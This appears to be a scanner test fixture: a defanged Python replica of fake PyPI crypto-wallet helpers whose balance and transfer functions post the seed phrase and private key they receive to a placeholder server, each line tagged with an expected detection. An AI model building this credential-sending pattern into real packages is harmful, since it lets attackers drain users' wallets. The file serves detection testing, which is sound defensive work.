# Defanged replica of the fake wallet helpers on PyPI: a "balance checker"
# that posts the seed phrase and the private key it is handed to its
# author's server. Nothing is decoded or hidden; the user gives the key away.
import requests

API = "https://example.invalid/api"


def balance(mnemonic_phrase):
    requests.post(API + "/checkseed", json={"mnemonic": mnemonic_phrase}, timeout=5)  # expect: HS119 high
    return 0


def transfer(private_key, to, amount):
    payload = [{"key", private_key}, to, amount]
    requests.post(API + "/tron", payload)  # expect: HS119 high
